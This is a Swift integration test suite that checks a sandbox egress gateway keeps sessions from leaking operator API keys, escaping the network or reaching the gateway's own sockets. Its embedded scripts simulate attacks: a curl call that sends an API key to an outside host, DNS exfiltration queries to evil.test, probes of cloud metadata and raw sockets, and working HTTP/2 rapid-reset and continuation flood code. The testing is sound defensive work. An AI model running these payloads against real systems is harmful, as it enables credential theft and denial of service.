import Documents
import Foundation
import Glibc
import Testing

extension Integration {
    /// Issue 4: what a session tries that is to leave by another way, or to come by what is not its own.
    @Suite struct EgressAttacks {
        @Test func theOperatorsKeysAreNowhereInside() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                upstreams.makeRepository("acme/app.git")
                let work = try desk.directory("work")
                let running = desk.start(
                    carrel: ["run", "--workdir", work, "--session", "searched"] + (try upstreams.profile()) + [
                        "--", Host.python, "-c",
                        """
                        import os, requests, time
                        models = requests.get(os.environ['ANTHROPIC_BASE_URL'] + '/v1/models', headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']})
                        direct = requests.get('https://api.anthropic.com/v1/models', headers={'x-api-key': 'sk-ant-ATTACKER'})
                        open('answers', 'w').write(repr((models.text, dict(models.headers), direct.text, dict(direct.headers))))
                        refs = requests.get('https://github.com/acme/app.git/info/refs?service=git-upload-pack')
                        print(models.status_code, direct.status_code, refs.status_code, flush=True)
                        time.sleep(600)
                        """,
                    ])
                try #require(
                    eventually(within: 120) { running.output == "200 200 200" }, "\(running.output) \(running.errors)")
                let asked = try upstreams.requests(to: "api.anthropic.com")
                #expect(asked.count == 2)
                for request in asked { #expect(Upstreams.header("x-api-key", of: request) == [Upstreams.anthropicKey]) }
                let pid = try #require(try desk.json("state/sessions/searched.json")["pid"]?.int)
                func search(_ needle: String) -> Outcome {
                    Host.outside(
                        [Host.python, Host.fixtures + "/search_session.py", String(pid), needle], timeout: 300)
                }
                for key in [Upstreams.anthropicKey, Upstreams.githubToken, "OPERATORS-OWN"] {
                    let found = search(key)
                    #expect(found.status == 0 && found.lines.count == 1, "\(found)")
                    #expect(Int(found.output.split(separator: " ").last ?? "") ?? 0 > 1 << 20, "\(found)")
                }
                // The search does find what is there.
                #expect(search("sk-ant-carrel-").lines.count > 1)
                running.signal(SIGTERM)
                _ = running.finish()
                // Nor is it in what the host keeps of sessions.
                let left = Host.outside("grep -rlF OPERATORS-OWN '\(desk.state)' | cat")
                #expect(left.output.isEmpty, "\(left)")
                for gateway in upstreams.gateways {
                    let line = FileManager.default.contents(atPath: "/proc/\(gateway)/cmdline") ?? Data()
                    #expect(!String(decoding: line, as: UTF8.self).contains("OPERATORS-OWN"))
                }
            }
        }

        @Test func theDummyShownElsewhereEndsTheSession() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let inside = desk.sh(
                    try upstreams.profile(),
                    "curl -s -H \"x: $ANTHROPIC_API_KEY\" https://example.com/; sleep 600; echo survived", timeout: 300)
                #expect(inside.seconds < 300 && !inside.output.contains("survived"), "\(inside)")
                #expect(try desk.lastReport().at("exit.how")?.string == "tripwire")
                #expect(try upstreams.requests(to: "example.com").isEmpty)
                #expect(try desk.auditEvents().contains { $0["event"]?.string == "tripwire" })
            }
        }

        @Test func thereIsNoOtherWayOut() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                // Something of the host's that a way out would reach.
                let listener = Command([
                    Host.python, "-c",
                    """
                    import socket, sys, time
                    tcp = socket.create_server(('0.0.0.0', 0)); tcp.settimeout(0.1)
                    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(('0.0.0.0', tcp.getsockname()[1])); udp.settimeout(0.1)
                    print(tcp.getsockname()[1], flush=True)
                    while True:
                        for made in (tcp, udp):
                            try: (made.accept() if made is tcp else made.recv(9)); print('reached', flush=True)
                            except TimeoutError: pass
                    """,
                ])
                try #require(eventually { !listener.output.isEmpty })
                let port = listener.output
                let addresses =
                    Host.outside("hostname -I").output.split(separator: " ").filter { !$0.contains(":") }.map {
                        "'\($0)'"
                    } + ["'127.0.0.1'"]
                let inside = desk.python(
                    try upstreams.profile(),
                    """
                    results = {}
                    def tcp(address, port, family=socket.AF_INET):
                        with socket.socket(family, socket.SOCK_STREAM) as made:
                            made.settimeout(3)
                            made.connect((address, port))
                            try: return made.recv(10) or 'closed'
                            except TimeoutError: return 'silence'
                    def datagram(address, port):
                        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
                            made.settimeout(1)
                            made.connect((address, port))
                            made.send(b'quic')
                            return made.recv(10)
                    for address in (\(addresses.joined(separator: ", "))):
                        print('tcp', attempt(tcp, address, \(port)))
                        print('udp', attempt(datagram, address, \(port)))
                    print('quic', attempt(datagram, '1.1.1.1', 443))
                    print('dot', attempt(tcp, '1.1.1.1', 853))
                    print('ipv6', attempt(tcp, '2606:4700:4700::1111', 22, socket.AF_INET6))
                    print('ping', attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1))
                    print('raw', attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1))
                    print('packet', attempt(socket.socket, 17, socket.SOCK_RAW, 0))
                    print('vsock', attempt(socket.socket, 40, socket.SOCK_STREAM))
                    print('netlink', attempt(lambda: socket.socket(16, socket.SOCK_RAW, 0).bind((0, 0))))
                    """)
                listener.signal(SIGKILL)
                #expect(!listener.finish().output.contains("reached"))
                let refusals = ["ECONNREFUSED", "EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "EINVAL"]
                for line in inside.lines where !line.hasPrefix("netlink") {
                    #expect(refusals.contains(String(line.split(separator: " ").last ?? "")), "\(line)")
                }
                #expect(inside.lines.count >= 8, "\(inside)")
            }
        }

        /// An address is no name, in whichever family: the transparent path takes the connection, and ends it.
        @Test func addressesAreMetAndRefused() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let inside = desk.sh(
                    try upstreams.profile(),
                    """
                    for url in https://93.184.216.34/ 'https://[2606:4700:4700::1111]/' http://169.254.169.254/ 'http://[fd00::1]/'; do
                        curl -sg -o /dev/null --noproxy '*' -w '%{http_code}\n' $url
                    done
                    curl -sg -o /dev/null --noproxy '*' --resolve example.com:443:93.184.216.34 -w '%{http_code}\n' https://example.com/
                    true
                    """)
                #expect(inside.lines == ["000", "000", "403", "403", "000"], "\(inside)")
                #expect(try upstreams.requests().isEmpty)
                #expect(try desk.lastReport()["egress"]?["denied"]?.int == 5)
            }
        }

        /// Frames that cost the sender nothing (CVE-2023-44487, CVE-2024-27316, and floods of settings and pings).
        @Test func floodsOfFramesLeaveTheGatewaysMemoryFlat() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let work = try desk.directory("work")
                let running = desk.start(
                    carrel: ["run", "--workdir", work] + (try upstreams.profile()) + [
                        "--", Host.python, "-c",
                        #"""
                        import os, socket, ssl, struct, time
                        def frame(kind, flags, stream, payload): return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload
                        head = b''.join(b'\0' + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in [(b':method', b'GET'), (b':scheme', b'https'), (b':authority', b'example.com'), (b':path', b'/')])
                        def flood(kind):
                            if kind == 'reset': return b''.join(frame(1, 5, 1 + 2 * i, head) + frame(3, 0, 1 + 2 * i, b'\0\0\0\x08') for i in range(5000))
                            if kind == 'continuation': return frame(1, 1, 1, head) + frame(9, 0, 1, b'\0\1x\1y') * 20000
                            if kind == 'settings': return frame(4, 0, 0, b'\0\3\0\0\0\x64') * 20000
                            return frame(6, 0, 0, b'12345678') * 20000
                        def once(kind):
                            made = socket.create_connection(('127.0.0.1', 3128))
                            made.sendall(b'CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n')
                            assert b' 200 ' in made.recv(4096)
                            context = ssl.create_default_context()
                            context.set_alpn_protocols(['h2'])
                            tls = context.wrap_socket(made, server_hostname='example.com')
                            assert tls.selected_alpn_protocol() == 'h2'
                            tls.settimeout(60)
                            try:
                                tls.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + flood(kind))
                                while tls.recv(65536): pass
                            except (ConnectionError, ssl.SSLError, BrokenPipeError): pass
                            tls.close()
                        def all(rounds):
                            for _ in range(rounds):
                                for kind in ('reset', 'continuation', 'settings', 'ping'): once(kind)
                        all(1)
                        open('warm', 'w').close()
                        while not os.path.exists('go'): time.sleep(0.02)
                        all(4)
                        print('closed', flush=True)
                        """#,
                    ])
                try #require(
                    eventually(within: 120) { FileManager.default.fileExists(atPath: work + "/warm") },
                    "\(running.errors)")
                let gateway = try #require(upstreams.gateways.first)
                let before = Host.residentKilobytes(gateway)
                try desk.write("", to: "work/go")
                let ended = running.finish(within: 240)
                #expect(ended.output == "closed", "\(ended)")
                let after = Host.residentKilobytes(gateway)
                #expect(before > 0 && after < before + (32 << 10), "\(before) kB, then \(after) kB")
            }
        }

        @Test func namesCarryNothingOut() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let inside = desk.python(
                    try upstreams.profile(),
                    """
                    def ask(name, kind):
                        question = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
                        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
                            made.settimeout(3)
                            made.connect(('9.9.9.9', 53))
                            made.send(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + question)
                            answer = made.recv(512)
                        flags, _, answers = struct.unpack('>HHH', answer[2:8])
                        return flags & 15, answers
                    print(ask('example.com', 1))
                    for name in ('evil.test', 'secret.' + 'a.' * 60 + 'evil.test', 'example.com.evil.test', 'localhost.evil.test'):
                        for kind in (1, 28, 16, 10, 255):
                            assert ask(name, kind)[0] in (3, 5), (name, kind, ask(name, kind))
                            assert ask(name, kind)[1] == 0
                    print('none')
                    """)
                #expect(inside.lines == ["(0, 1)", "none"], "\(inside)")
            }
        }

        @Test func theGatewaysOwnSocketsAreOutOfReach() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let work = try desk.directory("work")
                let places = ["control.sock", "metrics.sock", "ca.key"].map { "\(desk.state)/gateway/\($0)" }
                let inside = desk.python(
                    try upstreams.profile() + ["--workdir", work],
                    """
                    for path in \(places):
                        print(attempt(os.stat, path))
                        made = socket.socket(socket.AF_UNIX)
                        print(attempt(made.connect, path))
                        print(attempt(made.connect, '\\0' + path))
                        for process in filter(str.isdigit, os.listdir('/proc')):
                            assert not isinstance(attempt(os.stat, f'/proc/{process}/root' + path), os.stat_result)
                    print([l for l in open('/proc/net/unix') if 'control' in l or 'metrics' in l or 'sessions' in l])
                    os.symlink(\(places)[0], 'link')
                    print(attempt(socket.socket(socket.AF_UNIX).connect, 'link'))
                    print(attempt(socket.create_connection, ('127.0.0.1', 9464), 2))
                    """)
                #expect(
                    inside.lines == [String](repeating: "ENOENT", count: 2) + ["ECONNREFUSED"]
                        + [
                            "ENOENT", "ENOENT", "ECONNREFUSED", "ENOENT", "ENOENT", "ECONNREFUSED", "[]", "ENOENT",
                            "ECONNREFUSED",
                        ],
                    "\(inside)")
            }
        }

        /// What it cannot do any more: `Tests/Egress/ConfinementTests`.
        @Test func everyThreadOfTheGatewayIsConfined() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                #expect(desk.sh(try upstreams.profile(), "true").status == 0)
                let gateway = try #require(upstreams.gateways.first)
                let threads = Desk.list("/proc/\(gateway)/task")
                #expect(threads.count > 1)
                for thread in threads {
                    let status = try String(
                        contentsOfFile: "/proc/\(gateway)/task/\(thread)/status", encoding: .utf8)
                    let lines = status.split(separator: "\n")
                    // CAP_DAC_READ_SEARCH and CAP_KILL.
                    for line in ["NoNewPrivs:\t1", "CapEff:\t0000000000000024", "CapPrm:\t0000000000000024"] {
                        #expect(lines.contains(line[...]), "\(lines)")
                    }
                }
            }
        }

        /// What is not dumpable belongs to root in /proc: no core, and no look at it by others of its user (prctl(2)).
        @Test(.enabled(if: Host.isRoot, "only root becomes an ordinary user"))
        func theGatewaysSecretsAreInNoCore() throws {
            try withDesk { desk in
                chown(desk.state, Host.ordinaryID, Host.ordinaryID)
                let program = (Host.carrel as NSString).deletingLastPathComponent + "/carrel-gateway"
                let gateway = Command([
                    "setpriv", "--reuid", "\(Host.ordinaryID)", "--regid", "\(Host.ordinaryID)", "--clear-groups",
                    program,
                    "serve", "--state", desk.state,
                ])
                try #require(
                    eventually { FileManager.default.fileExists(atPath: desk.state + "/gateway/control.sock") },
                    "\(gateway.errors)")
                let files = try FileManager.default.attributesOfItem(atPath: "/proc/\(gateway.pid)/environ")
                #expect(files[.ownerAccountID] as? Int == 0)
                let limits = try String(contentsOfFile: "/proc/\(gateway.pid)/limits", encoding: .utf8)
                #expect(
                    limits.split(separator: "\n").contains {
                        $0.split(separator: " ").starts(with: ["Max", "core", "file", "size", "0", "0"])
                    }, "\(limits)")
                gateway.signal(SIGTERM)
                _ = gateway.finish()
            }
        }

        @Test func twoSessionsHaveDoorsOfTheirOwn() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let open = try upstreams.profile()
                let narrow = ["--profile", try desk.profile("narrow", "network: gateway\negress: {rules: [npm]}")]
                let script =
                    "echo $ANTHROPIC_API_KEY; curl -s -o /dev/null -w '%{http_code}\\n' https://example.com/; true"
                let wide = desk.sh(open + ["--tenant", "acme"], script)
                let other = desk.sh(open + ["--tenant", "globex"], script)
                let shut = desk.sh(narrow, script)
                #expect(wide.lines.last == "200" && other.lines.last == "200", "\(wide) \(other)")
                #expect(wide.lines.first != other.lines.first && wide.lines.first?.hasPrefix("sk-ant-carrel-") == true)
                #expect(shut.output == "000", "\(shut)")
            }
        }

        @Test func aCredentialThatIsNotThereIsARefusal() throws {
            try withDesk { desk in
                let upstreams = try Upstreams(desk)
                let configuration = desk.read("gateway.yaml").replacing("  anthropic:\n", with: "  another:\n")
                try desk.write(configuration, to: "gateway.yaml")
                let refused = desk.sh(try upstreams.profile(), "echo started")
                #expect(refused.status == 125 && refused.output.isEmpty, "\(refused)")
                #expect(refused.errors.contains("anthropic"), "\(refused)")
                try desk.write(configuration + "nonsense: 1\n", to: "gateway.yaml")
                desk.stopGateway()
                let broken = desk.sh(try upstreams.profile(), "echo started")
                #expect(broken.status == 125 && broken.errors.contains("nonsense"), "\(broken)")
            }
        }
    }
}
